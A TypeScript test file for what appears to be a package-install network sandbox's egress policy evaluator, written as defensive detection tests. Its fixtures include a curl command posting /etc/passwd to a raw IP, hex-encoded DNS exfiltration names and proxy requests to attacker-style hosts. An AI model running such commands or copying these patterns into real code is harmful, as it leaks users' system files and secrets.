import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { verdictOf, type CheckReport, type ReportEvent } from '../../../src/core/report.js';
import type { Capability } from '../../../src/core/terms.js';
import {
  judgeChanges,
  evaluate as evaluateReport,
  type EvaluationContext,
} from '../../../src/policy/evaluate.js';
import { compileIndicators } from '../../../src/policy/indicators.js';
import { mergeLayers, shippedIndicators } from '../../../src/policy/load.js';
import { parsePolicyLayer } from '../../../src/policy/parse.js';
import { readStructured } from '../../../src/policy/source.js';
import type { KnownEgressEntry } from '../../../src/policy/types.js';
import { parseDestination, type DestinationPattern } from '../../../src/policy/destination.js';
import { parseDeclaration, parsePackageScope } from '../../../src/policy/parse.js';
import { diffReports } from '../../../src/core/compare.js';
import { checkView } from '../../../src/report/model.js';

const SUBJECT = 'pkg@1.0.1';

interface Tree {
  declarations?: Record<string, unknown>;
  dependencies?: Record<string, string[]>;
}

/** The tree facts (declarations, dependencies) go into the report, as check.ts puts them. */
function evaluate(r: CheckReport, c: EvaluationContext & Tree): CheckReport {
  const packages = (r.packages ?? []).map((p) => ({
    ...p,
    dependencies: c.dependencies?.[p.id] ?? [],
    ...declarationOf(c.declarations?.[p.id]),
  }));
  for (const id of Object.keys(c.declarations ?? {}))
    if (!packages.some((p) => p.id === id))
      packages.push({
        id,
        installScripts: [],
        capabilities: ['network'],
        dependencies: [],
        ...declarationOf(c.declarations?.[id]),
      });
  return evaluateReport({ ...r, packages }, c);
}

/**
 * A report of `events`. As in the sandbox, a connection by name follows a lookup of that name
 * through the sandbox's resolver: one is added where a test gives none.
 */
function report(events: ReportEvent[], caps: Record<string, Capability[]> = {}): CheckReport {
  const ids = new Set([SUBJECT, ...events.map((e) => e.package).filter((p): p is string => !!p)]);
  const asked = new Set(events.filter((e) => e.kind === 'dns').map((e) => e.host));
  const lookups = events.flatMap((e): ReportEvent[] =>
    e.kind !== 'dns' && e.host && !asked.has(e.host) && (asked.add(e.host), true)
      ? [
          {
            phase: e.phase,
            ...(e.package ? { package: e.package } : {}),
            kind: 'dns',
            host: e.host,
            qtype: 'A',
            resolver: '192.168.1.1',
          },
        ]
      : [],
  );
  return {
    schemaVersion: 2,
    subject: { name: 'pkg', version: '1.0.1', integrity: null, spec: 'pkg@1.0.1' },
    phases: [],
    events: [...lookups, ...events],
    findings: [],
    verdict: 'pass',
    packages: [...ids].map((id) => ({
      id,
      installScripts: [],
      capabilities: caps[id] ?? ['network'],
      fromRegistry: true,
    })),
  };
}

/** As check.ts records a declaration in the report. */
function declarationOf(field: unknown) {
  if (field === undefined) return {};
  const d = parseDeclaration(field);
  return {
    declares: Object.fromEntries(
      Object.entries(d.byPhase).map(([phase, list]) => [phase, list.map((p) => p.text)]),
    ),
    ...(d.problems.length ? { declarationProblems: d.problems } : {}),
  };
}

function layers(...yamls: string[]) {
  const ids = shippedIndicators().map((i) => i.id);
  return mergeLayers(
    yamls.map((y, i) => {
      const { layer, problems } = parsePolicyLayer(readStructured(`p${i}.yaml`, y), ids);
      assert.deepEqual(problems, []);
      return layer;
    }),
    yamls.map((_, i) => `p${i}.yaml`),
  );
}

function dest(s: string): DestinationPattern {
  const d = parseDestination(s);
  assert.ok(typeof d !== 'string', String(d));
  return d;
}

function ctx(over: Partial<EvaluationContext> & Tree = {}): EvaluationContext & Tree {
  return {
    policy: layers('version: 1'),
    knownEgress: [],
    indicators: shippedIndicators(),
    resolvers: ['192.168.1.1'],
    ...over,
  };
}

const https = (host: string, extra: Partial<ReportEvent> = {}): ReportEvent => ({
  phase: 'install',
  package: SUBJECT,
  kind: 'tls',
  host,
  sni: host,
  ip: '198.18.0.7',
  port: 443,
  bytesOut: 517,
  ...extra,
});
const lookup = (host: string, extra: Partial<ReportEvent> = {}): ReportEvent => ({
  phase: 'install',
  package: SUBJECT,
  kind: 'dns',
  host,
  qtype: 'A',
  resolver: '192.168.1.1',
  ...extra,
});

const ids = (r: CheckReport) => r.findings.map((f) => `${f.id}:${f.severity}`).sort();

describe('policy evaluation', () => {
  it('no egress, no findings: pass', () => {
    const r = evaluate(report([]), ctx());
    assert.equal(r.verdict, 'pass');
    assert.deepEqual(r.findings, []);
  });

  it('undeclared install-time download is denied by default, with a suggestion naming host, port, package and phase', () => {
    const r = evaluate(report([lookup('dl.example.com'), https('dl.example.com')]), ctx());
    assert.equal(r.verdict, 'fail');
    // The lookup belongs to the connection: one finding, not two.
    assert.deepEqual(ids(r), ['egress-not-allowed:high']);
    const f = r.findings[0];
    assert.equal(f?.destination, 'dl.example.com:443');
    assert.equal(f?.rule, 'default:install');
    assert.equal(
      f?.suggestion,
      '- allow: [dl.example.com:443]\n  packages: [pkg@1.0.1]\n  phases: [install]\n',
    );
  });

  it('the suggested rule, pasted into a policy, allows exactly that attempt', () => {
    const scoped = evaluate(report([https('a.example.com', { package: '@acme/x@2.0.0' })]), ctx());
    assert.match(scoped.findings[0]?.suggestion ?? '', /packages: \["@acme\/x@2.0.0"\]/);
    const first = evaluate(report([https('dl.example.com')]), ctx());
    const rule = first.findings[0]?.suggestion ?? '';
    const policy = layers(`version: 1\nrules:\n${rule.replace(/^/gm, '  ')}`);
    const again = evaluate(report([https('dl.example.com')]), ctx({ policy }));
    assert.deepEqual(ids(again), ['egress-allowed:info']);
    assert.equal(again.verdict, 'pass');
    // Another port, package or phase is still not allowed.
    for (const e of [
      https('dl.example.com', { port: 8443 }),
      https('dl.example.com', { package: 'other@1.0.0' }),
      https('dl.example.com', { phase: 'import' }),
    ])
      assert.ok(
        evaluate(report([e]), ctx({ policy })).findings.some((f) => f.id === 'egress-not-allowed'),
        JSON.stringify(e),
      );
  });

  it('a name shaped like YAML or like other patterns gets no suggestion that would allow more than it', () => {
    for (const host of ['x.test, "*"', 'x.test,*', '*', '*.example.com', '_x.example', 'x]#']) {
      const r = evaluate(report([lookup(host)]), ctx());
      const f = r.findings.find((x) => x.suggestion);
      if (!f?.suggestion) continue;
      // A suggestion there is must, pasted in, allow that lookup and not another host.
      const policy = layers(`version: 1\nrules:\n${f.suggestion.replace(/^/gm, '  ')}`);
      assert.equal(evaluate(report([lookup(host)]), ctx({ policy })).verdict, 'pass', host);
      assert.equal(
        evaluate(report([https('exfil.attacker.example')]), ctx({ policy })).verdict,
        'fail',
        `${host}: ${f.suggestion}`,
      );
    }
    const plain = evaluate(report([lookup('x.test, "*"')]), ctx()).findings;
    assert.ok(plain.some((x) => x.id === 'egress-not-allowed' && x.severity === 'high'));
    assert.ok(!plain.some((x) => x.suggestion), 'a name with a comma and a star: no suggestion');
    // A name no pattern can be written for gets none; a valid one YAML would misread is quoted.
    const unwritable = evaluate(report([lookup('x]#.example')]), ctx()).findings;
    assert.ok(!unwritable.some((x) => x.suggestion));
    const odd = evaluate(report([lookup('_x.example')]), ctx()).findings;
    assert.match(odd.find((x) => x.suggestion)?.suggestion ?? '', /allow: \["_x\.example"\]/);
  });

  it('a package whose own name or version would cover other packages gets no suggestion', () => {
    for (const pkg of [
      '*@',
      'evil@x',
      'evil@',
      'evil@>=0.0.0',
      'evil@1.0.0||99.0.0',
      '@*/x@1.0.0',
      'evil@1.0.0+b',
    ]) {
      const r = evaluate(report([https('exfil.example.com', { package: pkg })]), ctx());
      assert.ok(
        r.findings.some((f) => f.id === 'egress-not-allowed'),
        pkg,
      );
      assert.ok(!r.findings.some((f) => f.suggestion), `${pkg}: no suggestion`);
    }
    for (const pkg of ['pkg@1.0.1', '@acme/x@2.0.0', 'x@1.0.0-beta.1'])
      assert.ok(
        evaluate(report([https('dl.example.com', { package: pkg })]), ctx()).findings.some(
          (f) => f.suggestion,
        ),
        pkg,
      );
  });

  it('a name YAML would read as a number or null is quoted, and the rule loads', () => {
    let written = 0;
    for (const host of ['1.50', '1.5e3', '0.0e0', '1.0']) {
      const r = evaluate(report([lookup(host)]), ctx());
      const s = r.findings.find((f) => f.suggestion)?.suggestion;
      if (!s) continue;
      written++;
      assert.match(s, new RegExp(`allow: \\["${host}"\\]`), s);
      const policy = layers(`version: 1\nrules:\n${s.replace(/^/gm, '  ')}`);
      assert.equal(evaluate(report([lookup(host)]), ctx({ policy })).verdict, 'pass', host);
    }
    assert.ok(written >= 2, `suggestions written for ${written} of the names`);
  });

  it('a raw-IP connection with an SNI that is no host name is shown with its address', () => {
    const r = evaluate(
      report([
        {
          phase: 'install',
          package: SUBJECT,
          kind: 'tls',
          ip: '81.2.3.4',
          port: 443,
          sni: 'x-.attacker.example',
          bytesOut: 100,
        },
      ]),
      ctx(),
    );
    const f = r.findings.find((x) => x.id === 'egress-not-allowed');
    assert.match(f?.destination ?? '', /address 81\.2\.3\.4/);
    assert.match(f?.suggestion ?? '', /allow: \["?81\.2\.3\.4:443"?\]/);
  });

  it('lookups chunking data into many names of a declared zone: the indicator names each, and they are drawn under it', () => {
    const lookups = Array.from({ length: 12 }, (_, i) =>
      lookup(`c${i}.vend.example`, { phase: 'import' }),
    );
    const r = evaluate(
      report(lookups),
      ctx({ declarations: { [SUBJECT]: { import: ['*.vend.example'] } } }),
    );
    const many = r.findings.find((f) => f.id === 'dns-many-subdomains');
    assert.equal(many?.severity, 'high', 'a declaration does not explain the indicator');
    assert.equal(many?.events?.length, 12, 'the indicator names every lookup it counted');
    assert.equal(r.verdict, 'fail');
    // Drawn as what failed it, not as what the declaration allowed.
    const rows = checkView({
      ...r,
      phases: [{ name: 'import', status: 'completed', durationMs: 100 }],
    }).timelines.flatMap((t) => t.rows);
    assert.equal(rows.length, 12);
    assert.ok(
      rows.every((x) => x.decision === 'indicator'),
      JSON.stringify(rows.map((x) => x.decision)),
    );
  });

  it('wildcards match subdomains at any depth but not the zone itself; ports and ranges', () => {
    const policy = layers(
      'version: 1\nrules:\n  - allow: ["*.cdn.example.com:443", "api.example.com:8000-8100"]',
    );
    const allowed = (e: ReportEvent) => evaluate(report([e]), ctx({ policy })).verdict === 'pass';
    assert.ok(allowed(https('a.cdn.example.com')));
    assert.ok(allowed(https('x.y.cdn.example.com')));
    assert.ok(!allowed(https('cdn.example.com')));
    assert.ok(!allowed(https('evilcdn.example.com')));
    assert.ok(!allowed(https('a.cdn.example.com', { port: 80 })));
    assert.ok(allowed(https('api.example.com', { port: 8080 })));
    assert.ok(!allowed(https('api.example.com', { port: 8101 })));
    // A DNS lookup is allowed when connecting to the name is allowed on some port.
    assert.ok(allowed(lookup('b.cdn.example.com')));
  });

  it('IPs and CIDR blocks match the connected address, v4 and v6', () => {
    const policy = layers(
      'version: 1\nrules:\n  - allow: ["203.0.113.0/24:443", "[2001:db8::/32]:443"]',
    );
    const raw = (ip: string): ReportEvent => ({
      phase: 'install',
      package: SUBJECT,
      kind: 'tcp',
      ip,
      port: 443,
      bytesOut: 10,
    });
    const decision = (ip: string) =>
      evaluate(report([raw(ip)]), ctx({ policy })).findings.find((f) => f.id.startsWith('egress'))
        ?.id;
    assert.equal(decision('203.0.113.9'), 'egress-allowed');
    assert.equal(decision('203.0.114.9'), 'egress-not-allowed');
    assert.equal(decision('2001:db8::1'), 'egress-allowed');
    assert.equal(decision('2001:db9::1'), 'egress-not-allowed');
  });

  it('packages are scoped by name, wildcard and semver range', () => {
    const policy = layers(
      'version: 1\nrules:\n  - allow: [dl.example.com]\n    packages: ["tool@>=2 <3", "@acme/*"]',
    );
    const allowedFor = (pkg: string) =>
      evaluate(report([https('dl.example.com', { package: pkg })]), ctx({ policy })).verdict ===
      'pass';
    assert.ok(allowedFor('tool@2.5.0'));
    assert.ok(!allowedFor('tool@3.0.0'));
    assert.ok(!allowedFor('tool@2.0.0-beta.1'));
    assert.ok(allowedFor('@acme/cli@1.0.0'));
    assert.ok(!allowedFor('@other/cli@1.0.0'));
    assert.ok(!allowedFor('toolbox@2.5.0'));
    // A rule scoped to packages never allows an attempt no package could be charged with.
    const anon = https('dl.example.com');
    delete anon.package;
    assert.equal(evaluate(report([anon]), ctx({ policy })).verdict, 'fail');
  });

  it('the first matching rule decides; an override file is tried before the policy', () => {
    const base = 'version: 1\nrules:\n  - allow: ["*.example.com"]';
    const override = 'version: 1\nrules:\n  - deny: [bad.example.com]\n    why: compromised mirror';
    const policy = layers(base, override);
    const r = evaluate(
      report([https('bad.example.com'), https('ok.example.com')]),
      ctx({ policy }),
    );
    const bad = r.findings.find((f) => f.destination === 'bad.example.com:443');
    assert.equal(bad?.id, 'egress-denied');
    assert.equal(bad?.rule, 'p1.yaml:3');
    assert.match(bad?.message ?? '', /compromised mirror/);
    assert.equal(
      r.findings.find((f) => f.destination === 'ok.example.com:443')?.id,
      'egress-allowed',
    );
  });

  it('override settings replace the policy key by key', () => {
    const policy = layers(
      'version: 1\ndefaults: { install: deny, exercise: warn }\nindicators: { raw-ip: low }',
      'version: 1\ndefaults: { runtime: allow }\ndeclarations: ignore',
    );
    assert.deepEqual(policy.defaults, { install: 'deny', import: 'allow', exercise: 'allow' });
    assert.equal(policy.declarations, 'ignore');
    assert.deepEqual(policy.indicators, { 'raw-ip': 'low' });
    assert.deepEqual(policy.sources, ['p0.yaml', 'p1.yaml']);
  });

  it('warn and allow defaults per phase', () => {
    const policy = layers('version: 1\ndefaults: { exercise: warn, import: allow }');
    const r = evaluate(
      report([
        https('a.example.com', { phase: 'exercise' }),
        https('b.example.com', { phase: 'import' }),
      ]),
      ctx({ policy }),
    );
    assert.deepEqual(ids(r), ['egress-allowed:info', 'egress-not-allowed:medium']);
    assert.equal(r.verdict, 'warn');
  });

  it("a package's declaration allows its own declared egress in the declared phase only", () => {
    const declarations = { [SUBJECT]: { install: ['dl.example.com:443'] } };
    const r = evaluate(report([https('dl.example.com')]), ctx({ declarations }));
    assert.equal(r.verdict, 'pass');
    assert.equal(r.findings[0]?.rule, 'declaration');
    const runtime = evaluate(
      report([https('dl.example.com', { phase: 'import' })]),
      ctx({ declarations }),
    );
    assert.equal(runtime.verdict, 'fail');
    const other = evaluate(
      report([https('dl.example.com', { package: 'dep@1.0.0' })]),
      ctx({ declarations }),
    );
    assert.equal(other.verdict, 'fail', 'a declaration speaks for its own package only');
    const ignored = evaluate(
      report([https('dl.example.com')]),
      ctx({ declarations, policy: layers('version: 1\ndeclarations: ignore') }),
    );
    assert.equal(ignored.verdict, 'fail');
    const warned = evaluate(
      report([https('dl.example.com')]),
      ctx({ declarations, policy: layers('version: 1\ndeclarations: warn') }),
    );
    assert.equal(warned.verdict, 'warn');
  });

  it('runtime in a declaration means import and exercise', () => {
    const declarations = {
      [SUBJECT]: { runtime: [{ host: '*.ingest.example.io:443', why: 'errors' }] },
    };
    for (const phase of ['import', 'exercise'] as const)
      assert.equal(
        evaluate(report([https('o1.ingest.example.io', { phase })]), ctx({ declarations })).verdict,
        'pass',
      );
  });

  it('an indicator is not silenced by a declaration, the known-egress list or an allow rule', () => {
    const host = 'abc.webhook.site';
    const declarations = { [SUBJECT]: { install: [`${host}:443`] } };
    const knownEgress: KnownEgressEntry[] = [
      {
        id: 'k',
        source: 'https://example.invalid/src',
        action: 'allow',
        destinations: [dest(host)],
        packages: [parsePackageScope('pkg') as never],
        origin: 'known-egress:k',
      },
    ];
    const policy = layers(`version: 1\nrules:\n  - allow: ["${host}"]`);
    for (const c of [ctx({ declarations }), ctx({ knownEgress }), ctx({ policy })]) {
      const r = evaluate(report([https(host)]), c);
      assert.equal(r.verdict, 'fail');
      const ind = r.findings.find((f) => f.id === 'request-catcher');
      assert.equal(ind?.severity, 'critical');
      assert.match(ind?.message ?? '', /no policy can allow this/);
      assert.ok(!r.findings.some((f) => f.suggestion), 'no suggestion for a forbidden destination');
    }
  });

  it('known egress applies only to a package a registry vouches for', () => {
    const knownEgress: KnownEgressEntry[] = [
      {
        id: 'k',
        source: 'https://example.invalid/src',
        action: 'allow',
        destinations: [dest('dl.example.com:443')],
        packages: [parsePackageScope('pkg') as never],
        origin: 'known-egress:k',
      },
    ];
    const vouched = report([https('dl.example.com')]);
    assert.equal(evaluate(vouched, ctx({ knownEgress })).verdict, 'pass');
    const claimed: CheckReport = {
      ...vouched,
      packages: vouched.packages?.map((p) => ({ ...p, fromRegistry: false })),
    };
    const r = evaluate(claimed, ctx({ knownEgress }));
    assert.equal(r.verdict, 'fail');
    assert.ok(!r.findings.some((f) => f.rule === 'known-egress:k'));
  });

  it('an indicator that may be allowed is accepted (info) when a rule of the policy allows the attempt, not when only a declaration does', () => {
    const odd = https('api.example.com', { port: 8080 });
    const byRule = evaluate(
      report([odd]),
      ctx({ policy: layers('version: 1\nrules:\n  - allow: [api.example.com:8080]') }),
    );
    assert.equal(byRule.findings.find((f) => f.id === 'nonstandard-port')?.severity, 'info');
    assert.equal(byRule.verdict, 'pass');
    const byDeclaration = evaluate(
      report([odd]),
      ctx({ declarations: { [SUBJECT]: { install: ['api.example.com:8080'] } } }),
    );
    assert.equal(byDeclaration.findings.find((f) => f.id === 'nonstandard-port')?.severity, 'low');
    assert.equal(byDeclaration.verdict, 'warn');
  });

  it('locked indicators cannot be lowered; others can be lowered or turned off', () => {
    const policy = layers(
      'version: 1\nindicators: { cloud-metadata: info, raw-ip: "off" }\nrules:\n  - allow: ["*"]',
    );
    const r = evaluate(
      report([
        {
          phase: 'import',
          package: SUBJECT,
          kind: 'tcp',
          ip: '169.254.169.254',
          port: 80,
          bytesOut: 80,
        },
        {
          phase: 'import',
          package: SUBJECT,
          kind: 'tcp',
          ip: '203.0.113.5',
          port: 443,
          bytesOut: 80,
        },
      ]),
      ctx({ policy }),
    );
    assert.equal(r.findings.find((f) => f.id === 'cloud-metadata')?.severity, 'critical');
    assert.ok(!r.findings.some((f) => f.id === 'raw-ip'));
  });

  it('behaviour indicators: raw IP, odd port, data in DNS names, many subdomains, resolver, upload, shell', () => {
    const events: ReportEvent[] = [
      {
        phase: 'install',
        package: SUBJECT,
        kind: 'tcp',
        ip: '203.0.113.5',
        port: 1224,
        bytesOut: 200000,
        process: '/usr/bin/curl -d @/etc/passwd http://203.0.113.5:1224',
      },
      lookup('6e6f64653a783a313030303a313030303a.0.q.zone.example'),
      lookup('plain.example.com', { resolver: '8.8.8.8' }),
      ...Array.from({ length: 12 }, (_, i) => lookup(`n${i}.chunks.example`, { phase: 'import' })),
      { phase: 'import', package: SUBJECT, kind: 'icmp', ip: '203.0.113.9', count: 3 },
    ];
    const r = evaluate(report(events), ctx());
    const found = new Set(r.findings.map((f) => f.id));
    for (const id of [
      'raw-ip',
      'nonstandard-port',
      'large-upload',
      'foreign-process',
      'dns-data',
      'hardcoded-resolver',
      'dns-many-subdomains',
      'other-protocol',
    ])
      assert.ok(found.has(id), `${id} in ${[...found].join(', ')}`);
    assert.match(r.findings.find((f) => f.id === 'dns-data')?.message ?? '', /hex-encoded/);
    assert.match(r.findings.find((f) => f.id === 'foreign-process')?.message ?? '', /made by curl/);
  });

  it('an OpenTelemetry-shaped export at install is flagged, read in plain HTTP or inside TLS; not at run time', () => {
    const otel = (
      phase: ReportEvent['phase'],
      kind: 'http' | 'tls',
      path: string,
      method = 'POST',
    ) =>
      ({
        phase,
        package: SUBJECT,
        kind,
        ip: '23.45.6.7',
        port: kind === 'tls' ? 443 : 80,
        host: 'otel.collector.example',
        ...(kind === 'tls' ? { sni: 'otel.collector.example', intercept: 'decrypted' } : {}),
        method,
        path,
        bytesOut: 900,
      }) as ReportEvent;
    const ids = (events: ReportEvent[]) =>
      evaluate(report(events), ctx()).findings.map((f) => f.id);
    for (const e of [
      otel('install', 'tls', '/api/public/otel/v1/traces'),
      otel('install', 'http', '/v1/metrics?x=1'),
      otel('install', 'tls', '/V1/LOGS/'),
    ])
      assert.ok(ids([e]).includes('telemetry-export-at-install'), JSON.stringify(e));
    for (const e of [
      otel('exercise', 'tls', '/v1/traces'),
      otel('install', 'tls', '/v1/traces', 'GET'),
      otel('install', 'tls', '/v1/traces-archive'),
    ])
      assert.ok(!ids([e]).includes('telemetry-export-at-install'), JSON.stringify(e));
  });

  it('a TLS client that refused the run CA is a medium finding a declaration does not clear', () => {
    const refused: ReportEvent = {
      phase: 'install',
      package: SUBJECT,
      kind: 'tls',
      ip: '23.45.6.7',
      port: 443,
      host: 'ingest.example',
      sni: 'ingest.example',
      intercept: 'refused',
      tlsAlert: 'none',
      bytesOut: 517,
    };
    const r = evaluate(report([refused]), ctx());
    assert.equal(r.findings.find((f) => f.id === 'refused-inspection')?.severity, 'medium');
    const failed = evaluate(report([{ ...refused, intercept: 'failed' }]), ctx());
    assert.ok(!failed.findings.some((f) => f.id === 'refused-inspection'));
  });

  it('honest names do not look like data', () => {
    const r = evaluate(
      report(
        [
          'registry.npmjs.org',
          'storage.googleapis.com',
          'objects.githubusercontent.com',
          'd3rlzmu6ey6m2t.cloudfront.net',
          'playwright-akamai.azureedge.net',
        ].map((h) => lookup(h)),
      ),
      ctx({ policy: layers('version: 1\nrules:\n  - allow: ["*"]') }),
    );
    assert.deepEqual(
      ids(r).filter((i) => !i.startsWith('egress')),
      [],
    );
  });

  it('egress from a tree with no network-capable code is its own finding; a capable dependency clears it', () => {
    const e = https('dl.example.com', { phase: 'import' });
    const quiet = evaluate(report([e], { [SUBJECT]: [] }), ctx());
    assert.equal(quiet.findings.find((f) => f.id === 'hidden-network-code')?.severity, 'high');
    const viaDep = evaluate(
      report([e], { [SUBJECT]: [], 'http-lib@1.0.0': ['network'] }),
      ctx({ dependencies: { [SUBJECT]: ['http-lib@1.0.0'] } }),
    );
    assert.ok(!viaDep.findings.some((f) => f.id === 'hidden-network-code'));
  });

  it('a declaration that cannot be read is a low finding, and its bad entries are ignored', () => {
    const declarations = {
      [SUBJECT]: { install: ['dl.example.com:99999', 'ok.example.com'], later: [] },
    };
    const r = evaluate(report([https('ok.example.com')]), ctx({ declarations }));
    const f = r.findings.find((x) => x.id === 'declaration-invalid');
    assert.equal(f?.severity, 'low');
    assert.match(f?.message ?? '', /99999.*later|later.*99999/s);
    assert.equal(r.findings.find((x) => x.id.startsWith('egress'))?.id, 'egress-allowed');
  });

  it('findings are ordered by severity, then phase, package and destination, whatever the event order', () => {
    const events = [
      https('b.example.com'),
      https('a.example.com', { phase: 'import' }),
      lookup('c.example.com'),
    ];
    // A finding names its attempts by their index in the report's events: the same attempts,
    // wherever they stand.
    const judged = (r: CheckReport) =>
      r.findings.map(({ events: at, ...f }) => ({
        ...f,
        attempts: (at ?? []).map((i) => JSON.stringify(r.events[i])).sort(),
      }));
    const ra = evaluate(report(events), ctx());
    const rb = evaluate(report([...events].reverse()), ctx());
    assert.deepEqual(judged(ra), judged(rb));
    assert.ok(
      ra.findings.every((f) => f.events?.length),
      'every finding names its attempts',
    );
    const a = ra.findings;
    assert.deepEqual(
      a.map((f) => f.destination),
      ['b.example.com:443', 'c.example.com (DNS)', 'a.example.com:443'],
    );
  });

  it('with --against, a new install-time destination fails, a new runtime one warns, per the policy', () => {
    const base = evaluate(
      report([https('old.example.com', { phase: 'import' })]),
      ctx({ policy: layers('version: 1\ndefaults: { install: allow, runtime: allow }') }),
    );
    const now = evaluate(
      report([
        https('old.example.com', { phase: 'import' }),
        https('new.example.com'),
        https('rt.example.com', { phase: 'exercise' }),
      ]),
      ctx({ policy: layers('version: 1\ndefaults: { install: allow, runtime: allow }') }),
    );
    assert.equal(now.verdict, 'pass', 'everything is allowed by the defaults of the policy itself');
    const policy = layers('version: 1');
    const judged = judgeChanges(now, diffReports(base, now), policy);
    const news = judged.findings.filter((f) => f.id === 'new-destination');
    assert.deepEqual(
      news.map((f) => [f.phase, f.destination, f.severity]),
      [
        ['install', 'new.example.com:443', 'high'],
        ['exercise', 'rt.example.com:443', 'medium'],
      ],
    );
    assert.equal(judged.verdict, 'fail');
    assert.equal(judged.comparison?.before.version, '1.0.1');
    // Allowed by a rule of the consumer's policy: expected by someone who looked, so info.
    const ruled = layers(
      'version: 1\nrules:\n  - allow: [new.example.com:443]\n    phases: [install]',
    );
    const nowRuled = evaluate(
      report([https('old.example.com', { phase: 'import' }), https('new.example.com')]),
      ctx({ policy: ruled }),
    );
    const approved = judgeChanges(nowRuled, diffReports(base, nowRuled), ruled);
    assert.equal(approved.findings.find((f) => f.id === 'new-destination')?.severity, 'info');
    const lenient = judgeChanges(
      now,
      diffReports(base, now),
      layers('version: 1\nchanges: { install: warn, runtime: allow }'),
    );
    assert.equal(lenient.verdict, 'warn');
  });

  it('verdict levels', () => {
    const f = (severity: 'info' | 'low' | 'medium' | 'high' | 'critical') => ({
      id: 'x',
      severity,
      message: '',
    });
    assert.equal(verdictOf([f('info')]), 'pass');
    assert.equal(verdictOf([f('low')]), 'warn');
    assert.equal(verdictOf([f('medium'), f('info')]), 'warn');
    assert.equal(verdictOf([f('high')]), 'fail');
    assert.equal(verdictOf([f('critical')]), 'fail');
  });

  it('the shipped indicator list compiles, every entry has a rationale, and broken data is refused', () => {
    assert.ok(shippedIndicators().length >= 10);
    assert.throws(
      () =>
        compileIndicators({
          indicators: [
            { id: 'x', severity: 'bad', detector: 'hosts', rationale: 'r', hosts: ['a'] },
          ],
        }),
      /severity/,
    );
    assert.throws(
      () =>
        compileIndicators({
          indicators: [
            { id: 'x', severity: 'low', detector: 'hosts', rationale: 'r', hosts: ['a b'] },
          ],
        }),
      /host/,
    );
  });
});

describe('names an attempt only claims', () => {
  const allowGood = () =>
    ctx({
      policy: layers(
        'version: 1\nrules:\n  - allow: ["registry.good.example:443", "registry.good.example:80"]',
      ),
    });

  it("a name looked up only through the package's own resolver allows nothing", () => {
    const r = evaluate(
      report([
        lookup('registry.good.example', { resolver: '203.0.113.53' }),
        https('registry.good.example'),
      ]),
      allowGood(),
    );
    assert.equal(r.verdict, 'fail');
    assert.ok(ids(r).includes('egress-not-allowed:high'), ids(r).join(','));
    // The same name through the sandbox's resolver is allowed.
    const own = evaluate(
      report([lookup('registry.good.example'), https('registry.good.example')]),
      allowGood(),
    );
    assert.equal(own.verdict, 'pass', ids(own).join(','));
  });

  it('a proxy request to an allowed host is judged by where it says it goes', () => {
    const connect: ReportEvent = {
      phase: 'install',
      package: SUBJECT,
      kind: 'http',
      host: 'registry.good.example',
      ip: '57.142.3.9',
      port: 80,
      bytesOut: 80,
      method: 'CONNECT',
      path: 'evil-connect.example:443',
      httpHost: 'registry.good.example',
    };
    const absolute = { ...connect, method: 'GET', path: 'http://evil-abs.example/leak' };
    // To an address: only an address pattern for it would allow it.
    const toIp = { ...connect, path: '203.0.113.7:443' };
    const absoluteIp = { ...connect, method: 'GET', path: 'http://203.0.113.8/exfil?d=1' };
    for (const e of [connect, absolute, toIp, absoluteIp]) {
      const r = evaluate(report([e]), allowGood());
      assert.equal(r.verdict, 'fail', `${e.method} ${e.path}: ${ids(r).join(',')}`);
    }
  });
});
